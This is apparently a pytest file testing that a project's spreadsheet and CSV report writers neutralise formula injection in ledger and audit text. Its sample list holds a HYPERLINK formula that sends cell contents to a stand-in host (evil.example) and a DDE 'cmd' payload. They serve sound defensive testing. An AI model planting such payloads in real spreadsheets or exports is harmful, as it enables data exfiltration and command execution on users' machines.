"""Issue 16.7: ledger or device text starting with = + - @ (tab, CR) is never a live formula in
any spreadsheet or CSV the project writes; the files are read back as a spreadsheet would read them."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from courtops.cli import main
from courtops.findings import Finding
from courtops.formula_guard import looks_like_formula, neutralise
from courtops.report import REPORTS, write_report
from courtops.store import HostInfo, Metric, RunInfo, Store
from tests.conftest import REPO

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_neutralised(text: str) -> None:
    assert looks_like_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+1.5", "正常", "10.16.0.5", "", "a=b", 42, None, 1.5])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def _no_formula_anywhere(path: Path) -> list[object]:
    wb = load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    return values


def test_inspection_workbook_writes_hostile_ledger_and_device_text_as_text(tmp_path: Path) -> None:
    with Store(tmp_path / "s.sqlite3") as store:
        run_id = store.start_run(RunInfo(uuid="u1", kind="inspect", scope="inspect|lab", started_at=1000.0))
        asset = {"asset_class": "printers", "asset_location": HOSTILE[0], "asset_system": HOSTILE[3]}
        store.add_hosts(run_id, [HostInfo(name="prn1", address="10.250.1.9", asset=asset)])
        labels = {"title": "打印机状态", "state": "故障", "item": HOSTILE[1], "remark": HOSTILE[2]}
        store.add_metrics(
            run_id, [Metric(host="prn1", name="printer_status", text=HOSTILE[4], labels=labels)]
        )
        store.finish_run(run_id, "ok", ended_at=1030.0)
        (path,) = write_report(
            REPORTS["inspection"], store, store.get_run(run_id), tmp_path / "out", ("xlsx",)
        )
    values = _no_formula_anywhere(path)
    for text in HOSTILE[:5]:
        assert "'" + text in values, text


def _audit_store(path: Path) -> Path:
    with Store(path) as store:
        run_id = store.start_run(RunInfo(uuid="a1", kind="audit", scope="audit|lab", started_at=1000.0))
        found = Finding(host="pc-a", platform="linux_deb", control_id="L3-CES1-02", clause="8.1.4.1 b)",
                        verdict="不符合", record=HOSTILE[0], expected=HOSTILE[3], actual=HOSTILE[1],
                        control_point=HOSTILE[2], title="登录失败处理", layer="安全计算环境")  # fmt: skip
        store.write_batch(run_id, hosts=[HostInfo("pc-a", address="10.250.0.5")], findings=[found])
        store.finish_run(run_id, "ok", ended_at=1060.0)
    return path


def test_records_workbook_writes_hostile_findings_as_text(tmp_path: Path) -> None:
    with Store(_audit_store(tmp_path / "s.sqlite3")) as store:
        (path,) = write_report(
            REPORTS["dengbao"], store, store.get_run("latest"), tmp_path / "out", ("xlsx",)
        )
    values = _no_formula_anywhere(path)
    assert "'" + HOSTILE[0] in values and "'" + HOSTILE[2] in values


def test_findings_csv_is_inert_and_json_keeps_the_exact_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = _audit_store(tmp_path / "s.sqlite3")
    assert main(["findings", "--store", str(store), "--format", "csv"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert (row["record"], row["expected"], row["actual"]) == tuple(
        "'" + t for t in (HOSTILE[0], HOSTILE[3], HOSTILE[1])
    )
    assert not any(looks_like_formula(v) for v in row.values())
    assert main(["findings", "--store", str(store), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["record"] == HOSTILE[0]  # JSON is data, not a spreadsheet


WRITER = re.compile(r"\bcsv\.writer\b|\bDictWriter\b|\bWorkbook\(")


def test_every_spreadsheet_or_csv_writer_uses_the_guard() -> None:
    """The class, not the instance: a new writer that forgets the guard fails here."""
    writers = [
        p for d in ("courtops", "plugins", "library", "module_utils") for p in (REPO / d).rglob("*.py")
        if WRITER.search(p.read_text(encoding="utf-8"))
    ]  # fmt: skip
    assert len(writers) >= 4
    for path in writers:
        assert "courtops.formula_guard import" in path.read_text(encoding="utf-8"), path
